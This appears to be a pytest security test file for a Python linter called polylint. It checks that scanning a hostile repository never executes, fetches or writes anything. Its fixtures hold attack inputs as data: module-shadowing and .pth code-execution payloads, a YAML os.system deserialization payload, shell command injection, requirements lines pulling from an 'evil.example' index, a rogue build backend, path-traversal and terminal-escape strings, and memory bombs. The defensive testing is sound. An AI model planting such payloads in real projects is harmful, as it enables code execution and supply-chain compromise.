"""Nothing in a folder that is checked is imported, executed, fetched, or has anything changed outside."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from polylint import fix
from tests import audited
from tests.commands import run
from tests.helpers import API
from tests.lsp_client import Client
from tests.tree import contents, write

CALL = f'import requests\nrequests.get("{API}/me", headers={{"A": "k"}})\n'
PINNED = f'import requests\nrequests.get("{API}/me", headers={{"A": "k", "X-Polytomic-Version": "2025-09-18"}})\n'

BOMB = f'open(__import__("os").environ["RAN"], "a").write(__file__ + " ran: {audited.MARK}\\n")\n'
"""Says that it was executed."""

OURS = ("click", "libcst", "packaging", "tomli", "yaml", "pygls", "lsprotocol", "flake8")
PYTHONS = (
    "ast",
    "conftest",
    "difflib",
    "json",
    "multiprocessing",
    "pickle",
    "re",
    "setup",
    "sitecustomize",
    "tempfile",
)


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository that wants to be executed; what is executed writes to `ran`, beside it."""
    folder = tmp_path / "repository"
    notebook = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {},
        "cells": [
            {
                "cell_type": "code",
                "metadata": {},
                "outputs": [],
                "execution_count": None,
                "id": "a",
                "source": ["!touch $RAN\n", "%run evil.py\n", "%load_ext evil\n", *CALL.splitlines(keepends=True)],
            }
        ],
    }
    write(
        folder,
        {
            **{f"{name}.py": BOMB + CALL for name in (*OURS, *PYTHONS)},
            "evil.py": BOMB + "V = Plugin = RULE = build_wheel = 1\n",
            "evil.pth": f"import os; {BOMB}",
            "evil-1.dist-info/METADATA": "Name: evil\nVersion: 1\n",
            "evil-1.dist-info/entry_points.txt": "[flake8.extension]\nPOL = evil:Plugin\n[polylint.rules]\nx = evil:RULE\n",
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
            '[project]\nname = "x"\nversion = "1"\ndependencies = ["polytomic==1.18.0"]\n[tool.polylint]\nsrc = ["../.."]\n',
            "setup.cfg": "[metadata]\nversion = attr: evil.V\n[options]\ninstall_requires =\n    polytomic==1.18.0\n",
            "requirements.txt": "-r http://evil.example/x.txt\n-r ../../x.txt\n-c https://evil.example/c.txt\n-e .\n"
            "--index-url http://evil.example/\nevil @ file:evil.zip\npolytomic==1.18.0\n",
            "notebook.ipynb": json.dumps(notebook),
            "job.sh": f'curl "{API}/me?$(touch "$RAN")"\n. ./evil.sh\n',
            ".github/workflows/x.yml": f"x: !!python/object/apply:os.system ['touch $RAN']\njobs: {{a: {{steps: [{{run: 'curl {API}/me'}}]}}}}\n",
        },
    )
    monkeypatch.setenv("RAN", str(tmp_path / "ran"))
    monkeypatch.setenv("POLYLINT_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.delenv("PYTHONPATH", raising=False)
    return folder


def python(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, *arguments], cwd=folder, capture_output=True, text=True, check=False)


def test_nothing_is_executed_fetched_or_written(hostile: Path) -> None:
    write(hostile, {"polylint/__init__.py": BOMB, "polylint/rules/pol999_evil.py": BOMB})
    before = contents(hostile)
    commands = (
        "polylint check --jobs 1",
        "polylint check --diff --unsafe-fixes",
        "polylint check --output-format sarif -v",
        "polylint inventory --output-format html",
        "polylint explain job.sh:1",
        "flake8 -j1 --select POL .",
        "polylint check --fix click.py",
    )
    done = python(hostile, "-I", audited.__file__, str(hostile.parent / "cache"), *commands)
    assert done.stderr.rpartition("\n\n")[2] == "CODES [1, 1, 1, 0, 0, 1, 0]\n"
    assert "click.py:3:1: POL101" in done.stdout
    assert "job.sh:1:1: POL101" in done.stdout
    assert "notebook.ipynb" in done.stdout
    assert not (hostile.parent / "ran").exists()
    after = contents(hostile)
    assert {name for name in after if after[name] != before.get(name)} == {"click.py"}


def test_what_is_forbidden_is_noticed(tmp_path: Path) -> None:
    """The test above would see it."""
    write(tmp_path, {"evil.py": BOMB})
    code = (
        "import os, socket, subprocess, sys\nfrom tests import audited\naudited.watch([])\n"
        "sys.path.insert(0, '.')\nos.environ['RAN'] = 'ran'\nimport evil\nsubprocess.run('true')\nos.mkdir('x')\n"
        "print(*audited._told, sep='\\n')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(Path(audited.__file__).parents[1]), "PYTHONDONTWRITEBYTECODE": "1"},
        capture_output=True,
        text=True,
        check=True,
    )
    assert [line.split()[0] for line in done.stdout.splitlines()] == [
        "executed",
        "opened",
        "subprocess.Popen",
        "os.mkdir",
    ]


def test_modules_of_the_working_directory_do_not_run_in_the_place_of_libraries(hostile: Path) -> None:
    """`polylint/` itself would: README says so."""
    done = python(hostile, "-m", "polylint", "check", "click.py")
    assert done.stdout.startswith("click.py:3:1: POL101")
    assert not (hostile.parent / "ran").exists()


@pytest.mark.skipif(sys.version_info < (3, 11), reason="no further processes are begun where they can not be protected")
def test_modules_of_the_working_directory_do_not_run_in_further_processes(hostile: Path) -> None:
    code = (
        "import multiprocessing, os, sys\nsys.path = [one for one in sys.path if one]\n"
        "multiprocessing.set_start_method('spawn')\n"
        "from polylint.run import check\nfrom polylint.session import Options\n"
        "print(len(check(Options(('click.py', 'yaml.py'), jobs=2)).diagnostics), 'PYTHONSAFEPATH' in os.environ)\n"
    )
    done = python(hostile, "-P", "-c", code) if sys.version_info >= (3, 11) else python(hostile, "-c", code)
    assert done.stdout == "2 False\n"
    assert not (hostile.parent / "ran").exists()


def test_the_language_server_executes_nothing(hostile: Path) -> None:
    client = Client(hostile)
    for name in ("click.py", "notebook.ipynb"):
        client.open(name)
    client.open("requirements.txt", language="pip-requirements")
    assert client.codes("click.py") == ["POL101:3"]
    assert client.hover("click.py", 2, 5)
    assert client.stop() == 0
    assert not (hostile.parent / "ran").exists()


def test_configuration_names_no_code(hostile: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(hostile)
    write(hostile, {"pyproject.toml": '[tool.polylint]\nplugins = ["evil"]\n'})
    done = run("check", ".")
    assert done.code == 2
    assert "plugins: unknown key" in done.err


# ---------------------------------------------------------------- where fixes write

Link = Callable[[Path], None]


def _file_outside(folder: Path) -> None:
    (folder / "job.py").symlink_to("../elsewhere/job.py")


def _folder_outside(folder: Path) -> None:
    (folder / "jobs").symlink_to("../elsewhere")


def _over_another_link(folder: Path) -> None:
    (folder / "here.py").symlink_to(folder.parent / "elsewhere/job.py")
    (folder / "job.py").symlink_to("here.py")


def _installed(folder: Path) -> None:
    write(folder, {"env/lib/site-packages/job.py": CALL})
    (folder / "job.py").symlink_to("env/lib/site-packages/job.py")


def _excluded(folder: Path) -> None:
    write(folder, {"old/job.py": CALL, "polylint.toml": 'extend-exclude = ["old"]\n'})
    (folder / "job.py").symlink_to("old/job.py")


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "project"
    write(tmp_path, {"project/.git/HEAD": "", "elsewhere/job.py": CALL})
    monkeypatch.chdir(folder)
    return folder


@pytest.mark.parametrize("link", [_file_outside, _folder_outside, _over_another_link, _installed, _excluded])
@pytest.mark.parametrize("named", [False, True])
def test_what_lies_elsewhere_is_reported_and_never_changed(link: Link, named: bool, project: Path) -> None:
    link(project)
    before = contents(project.parent)
    paths = [str(path.relative_to(project)) for path in project.glob("job*")] if named else ["."]
    for option in (["--fix", "--unsafe-fixes"], ["--add-noqa"]):
        done = run("check", *option, *paths)
        assert done.code == 1
        assert "; no fix: " in done.out
        assert " is reached through a link, and lies " in done.out
    assert contents(project.parent) == before


def test_an_unused_suppression_that_lies_elsewhere_stays(project: Path) -> None:
    write(project.parent, {"elsewhere/job.py": "x = 'polytomic'  # noqa: POL101\n"})
    _file_outside(project)
    done = run("check", "--fix")
    assert "POL901 the suppression of POL101 silences nothing; no fix: job.py is reached" in done.out
    assert done.code == 1


def test_links_within_the_project_are_followed(project: Path) -> None:
    write(project, {"lib/job.py": CALL})
    (project / "main.py").symlink_to("lib/job.py")
    (project / "main").symlink_to("lib")
    assert run("check", "--fix", "main.py").code == 0
    assert (project / "lib/job.py").read_text() == PINNED
    assert (project / "main.py").is_symlink()


def test_a_folder_that_the_user_names_may_be_a_link(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(tmp_path, {"releases/2/job.py": CALL, "home/x": ""})
    (tmp_path / "home/current").symlink_to("../releases/2")
    monkeypatch.chdir(tmp_path / "home")
    assert run("check", "--fix", "current").code == 0
    assert (tmp_path / "releases/2/job.py").read_text() == PINNED


def test_a_project_that_is_reached_through_a_link(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(project, {"job.py": CALL})
    (project.parent / "link").symlink_to(project)
    assert run("check", "--fix", str(project.parent / "link/job.py")).code == 0
    assert (project / "job.py").read_text() == PINNED


@pytest.mark.parametrize("swapped", ["job.py", "."])
def test_a_link_that_takes_the_place_of_a_file_is_not_followed(
    swapped: str, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(project, {"lib/job.py": CALL})
    write_files = fix.write_files

    def swap(*arguments: object) -> None:
        path = project / "lib" / swapped
        path.rename(project / "before")
        path.symlink_to(project.parent / "elsewhere" / swapped)
        write_files(*arguments)  # type: ignore[arg-type]

    monkeypatch.setattr(fix, "write_files", swap)
    done = run("check", "--fix")
    assert done.code == 2
    assert "nothing was written" in done.err
    assert "has become another file, through a link, since it was read" in done.err
    assert (project.parent / "elsewhere/job.py").read_text() == CALL


def test_what_was_not_named_is_not_changed(project: Path) -> None:
    write(
        project,
        {
            "polylint.toml": 'src = ["../elsewhere"]\n',
            "main.py": "import requests\nfrom pins import HEADERS\n" + f'requests.get("{API}/me", headers=HEADERS)\n',
            "job.py": CALL,
        },
    )
    write(project.parent, {"elsewhere/pins.py": 'HEADERS = {"X-Polytomic-Version": "2024-02-08"}\n'})
    before = contents(project.parent)
    done = run("check", "--fix", "main.py")
    assert "elsewhere/pins.py is not among the files to fix" in done.out
    assert contents(project.parent) == before


# ---------------------------------------------------------------- where baselines are


@pytest.mark.parametrize(
    "name", ["../baseline.json", "sub/../../baseline.json", "/{}/baseline.json", "link/baseline.json"]
)
def test_a_repository_can_not_name_a_baseline_elsewhere(name: str, project: Path) -> None:
    (project / "link").symlink_to("..")
    write(project, {"polylint.toml": f"baseline = {json.dumps(name.format(project.parent))}\n", "job.py": CALL})
    for options in (["--write-baseline"], ["--fix"], []):
        done = run("check", *options, "job.py")
        assert done.code == 2
        assert "the baseline is outside the project; name it with --baseline" in done.err
    assert (project / "job.py").read_text() == CALL
    assert not (project.parent / "baseline.json").exists()


def test_the_usual_name_may_be_no_link_to_elsewhere(project: Path) -> None:
    write(project, {"job.py": CALL})
    write(project.parent, {"mine.json": '{"version": 1, "findings": {}}'})
    (project / ".polylint-baseline.json").symlink_to("../mine.json")
    assert run("check", "--write-baseline", "job.py").code == 2
    assert (project.parent / "mine.json").read_text() == '{"version": 1, "findings": {}}'


def test_a_user_can_name_a_baseline_anywhere(project: Path) -> None:
    write(project, {"job.py": CALL})
    assert run("check", "--write-baseline", "--baseline", "../mine.json", "job.py").code == 0
    assert "POL101" in (project.parent / "mine.json").read_text()


@pytest.mark.parametrize("name", ["../../../etc/passwd", "/etc/passwd", "a\0b", "\ud800", "\x1b[31m"])
def test_a_baseline_may_say_anything(name: str, project: Path) -> None:
    entry = {"code": "POL101", "fingerprint": "x", "line": "\x1b[2J\u202e"}
    write(project, {"polylint.toml": 'baseline = "b.json"\n', "job.py": PINNED})
    write(project, {"b.json": json.dumps({"version": 1, "findings": {name: [entry]}})})
    done = run("check")
    assert (done.code, done.out) == (0, "")
    assert "\x1b" not in done.err
    assert "\u202e" not in done.err


# ---------------------------------------------------------------- what would take too much

LONG = "9" * 5_000


@pytest.mark.parametrize(
    "value", ["'%0999999999d' % 1", "f'{1:>999999999}'", "'{:>999999999}'.format(1)", "9 ** 9 ** 9", LONG]
)
def test_no_value_takes_all_memory(value: str, project: Path) -> None:
    write(project, {"job.py": f'import requests\nrequests.get("{API}/me", params={{"a": {value}}})\n'})
    done = run("check", "job.py")
    assert (done.code, done.out.count("POL")) == (1, 1)


@pytest.mark.parametrize(
    ("name", "text", "code"),
    [
        ("polylint.toml", f"x = {LONG}\n", 2),
        ("polylint.toml", f"sdk-version = '>={LONG}'\n", 2),
        ("polylint.toml", "x = " + "[" * 3_000 + "]" * 3_000, 2),
        ("pyproject.toml", f"[project]\ndependencies = ['polytomic==1']\n[x]\na = {LONG}\n", 1),
        ("requirements.txt", f"polytomic=={LONG}\n", 1),
        ("Pipfile.lock", f'{{"default": {{"polytomic": {{"version": "==1"}}}}, "x": {LONG}}}', 0),
    ],
)
def test_no_file_is_an_internal_error(name: str, text: str, code: int, project: Path) -> None:
    write(project, {name: text})
    done = run("check", name)
    assert done.code == code, done
    assert "POL998" not in done.out
    assert "internal error" not in done.err
